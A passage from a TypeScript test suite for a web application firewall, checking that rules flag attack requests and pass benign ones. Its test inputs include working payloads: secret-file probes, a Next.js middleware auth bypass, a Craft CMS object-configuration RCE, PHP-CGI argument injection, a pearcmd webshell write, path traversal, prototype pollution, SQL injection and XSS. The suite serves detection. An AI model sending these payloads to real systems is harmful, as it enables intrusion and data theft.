    for (const path of ['/app/etc/env.php', '/shop/app/etc/local.xml', '/config/database.yml', '/backup.sql', '/db/dump.sql.gz', '/.docker/config.json']) expect(rules({ method: 'GET', uri: path }), path).toContain('waf.scanner.probe-path')
    for (const path of ['/products/sql-for-dummies', '/downloads/manual.zip', '/app/etc-cabinet', '/blog/backup-sql-server.html']) expect(rules({ method: 'GET', uri: path }), path).toEqual([])
  })

  it("counts Next.js's internal x-middleware-subrequest header sent by a client, and the word elsewhere not", () => {
    expect(rules({ method: 'GET', uri: '/admin', headers: { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' } })).toEqual(['waf.auth-bypass.internal-subrequest'])
    expect(rules({ method: 'GET', uri: '/search?q=next.js+middleware' })).toEqual([])
  })

  it('counts a Yii object configuration whose __construct() key builds a class the request names (Craft CMS)', () => {
    const config = JSON.stringify({ name: 'configObject', as: { class: '\\GuzzleHttp\\Psr7\\FnStream', '__construct()': [[]], _fn_close: 'phpinfo' } })
    expect(rules({ method: 'POST', uri: '/index.php', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `action=conditions/render&config=${encodeURIComponent(config)}` })).toContain('waf.rce.object-configuration')
  })

  it('counts a query string that is a PHP command-line option, which PHP-CGI takes as its arguments', () => {
    for (const q of ['-s', '-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', '-n']) expect(rules({ method: 'GET', uri: `/index.php?${q}` }), q).toContain('waf.rce.php-cgi-argument')
    for (const q of ['sort=-price', 'q=-s+size', '-1=x']) expect(rules({ method: 'GET', uri: `/index.php?${q}` }), q).toEqual([])
  })

  it('counts phpinfo() closed by ?> in a parameter name (pearcmd config-create)', () => {
    expect(rules({ method: 'GET', uri: '/?+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=phpinfo()?>+/tmp/hello.php' })).toContain('waf.rce.php-probe')
  })
})

describe('a path in the Accept-Language header', () => {
  const rules = (lang: string): string[] => engine.inspect({ method: 'GET', uri: '/api/products', headers: { 'user-agent': UA, 'accept-language': lang } }).matches.map((m) => m.rule)

  it('is a path traversal, for an application that loads its translation file by that name', () => {
    for (const v of ['../../../.env', '../../app/etc/env.php', '..\\..\\..\\windows\\win.ini', 'file:///etc/shadow']) expect(rules(v), v).toContain('waf.path-traversal.locale-header')
  })

  it('is never found in the language lists browsers send', () => {
    for (const v of ['en-GB,en;q=0.9', 'fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5', 'zh-Hant-TW,zh;q=0.9', 'sr-Latn-RS', 'es-419,es;q=0.9']) expect(rules(v), v).toEqual([])
  })
})

describe('a JSON body under another label', () => {
  const doc = { email: 'jane@example.com', address: { city: 'Leeds', couponCode: "' Or '1'='1" } }
  const benign = { requests: [{ indexName: 'products', params: "query=O'Brien&filters=brand%3A'L%5C'Or%C3%A9al'" }] }

  it('is read as JSON when sent as a form, as an application reading its raw body reads it', () => {
    const as = (body: unknown) => engine.inspect({ method: 'POST', uri: '/api/checkout', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: JSON.stringify(body) })
    expect(as(doc).matches.map((m) => m.target)).toContain('body:json:address.couponCode')
    expect(as(benign).matches).toEqual([])
  })

  it('is read in UTF-16 when its bytes are UTF-16, with or without a byte-order mark', () => {
    const utf16 = (body: unknown, bom: boolean) => Buffer.concat([Buffer.from(bom ? [0xff, 0xfe] : []), Buffer.from(JSON.stringify(body), 'utf16le')]).toString('base64')
    for (const bom of [true, false]) {
      expect(engine.inspect({ method: 'POST', uri: '/api/checkout', headers: { 'content-type': 'application/json; charset=utf-16' }, body: utf16(doc, bom), body_encoding: 'base64' }).action).toBe('block')
      expect(engine.inspect({ method: 'POST', uri: '/api/checkout', headers: { 'content-type': 'application/json; charset=utf-16' }, body: utf16(benign, bom), body_encoding: 'base64' }).matches).toEqual([])
    }
  })
})

describe('a JSON key read with its parent', () => {
  const rules = (body: unknown): string[] => engine.inspect({ method: 'PATCH', uri: '/api/account/preferences', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }).matches.map((m) => m.rule)

  it('is prototype pollution as constructor then prototype, at any depth', () => {
    expect(rules({ locale: 'en', constructor: { prototype: { isAdmin: true } } })).toEqual(['waf.prototype-pollution.proto-key'])
    expect(rules({ a: { b: [{ constructor: { prototype: { role: 'admin' } } }] } })).toEqual(['waf.prototype-pollution.proto-key'])
  })

  it('is nothing for a prototype under any other key, or a constructor alone', () => {
    expect(rules({ product: { prototype: true, stage: 'prototype' }, constructor: 'Lego Technic builder' })).toEqual([])
  })
})

describe('a cookie name', () => {
  const matches = (cookie: string): string[] => engine.inspect({ method: 'GET', uri: '/', headers: { 'user-agent': UA, cookie } }).matches.map((m) => `${m.rule}@${m.target}`)

  it('is a value of its own, and a cookie without = is a name alone, as PHP reads them into $_COOKIE', () => {
    expect(matches('theme=dark; %3Cscript%3Ealert(1)%3C%2Fscript%3E=1')).toContain('waf.xss.script-tag@cookie-name:%3Cscript%3Ealert(1)%3C%2Fscript%3E')
    expect(matches("sid=abc; x' UNION SELECT password FROM users -- ")).toContain("waf.sqli.union-select@cookie-name:x' UNION SELECT password FROM users --")
  })

  it('is nothing for the names analytics, consent and session cookies carry', () => {
    expect(matches('_ga=GA1.1.1234.5678; _ga_9ZX1Y2=GS1.1.1716.1.0; __Secure-3PSID=g.a000; __Host-next-auth.csrf-token=ab%7Ccd; OptanonAlertBoxClosed=2024-05-01; _hjSessionUser_3512=eyJpZCI6IjEifQ==; mp_8f3a_mixpanel=%7B%22a%22%3A1%7D; wp-settings-time-1=1716000000; PHPSESSID')).toEqual([])
  })
})

describe('the header an AJAX uploader names its file in', () => {
  const matches = (headers: Record<string, string>): string[] => engine.inspect({ method: 'POST', uri: '/upload', headers: { 'user-agent': UA, ...headers }, body: '\u0000\u0001' }).matches.map((m) => `${m.rule}@${m.target}`)

  it('is read as an uploaded file name, in each spelling uploaders use', () => {
    for (const h of ['x-filename', 'X_Filename', 'x.filename', 'X-File-Name']) expect(matches({ [h]: 'shell.php5.' }), h).toEqual([`waf.rce.script-upload@header:${h.toLowerCase()}`])
  })

  it('is nothing for an image, and a script name in another header stays a word', () => {
    expect(matches({ 'x-file-name': 'IMG_2041 (1).jpeg' })).toEqual([])
    expect(matches({ 'x-page': 'checkout.php' })).toEqual([])
  })
})

describe('a value whose only character a detector starts from seldom counts', () => {
  const rules = (note: string): string[] => engine.inspect({ method: 'POST', uri: '/api/cart', headers: { 'user-agent': UA, 'content-type': 'application/json' }, body: JSON.stringify({ note }) }).matches.map((m) => m.rule)

  it('still reaches the XSS detector with a < that opens a tag, or a backslash that may hide CSS code, after a <3, while <3 alone finds nothing', () => {
    expect(rules('I <3 this <script>')).toEqual(['waf.xss.script-tag'])
    expect(rules('I <3 e\\xpression\\28 x')).toEqual(['waf.xss.css-script'])
    expect(rules('I <3 this mug, < 5 kg')).toEqual([])
  })

  it('still reaches the command-injection detector with -c and a blank, while hyphenated words and a dash find nothing', () => {
    expect(rules('bash -c id')).toEqual(['waf.rce.command'])
    expect(rules('usb-c cable, t-shirt, 2024-05-01 -- Thanks')).toEqual([])
  })
})
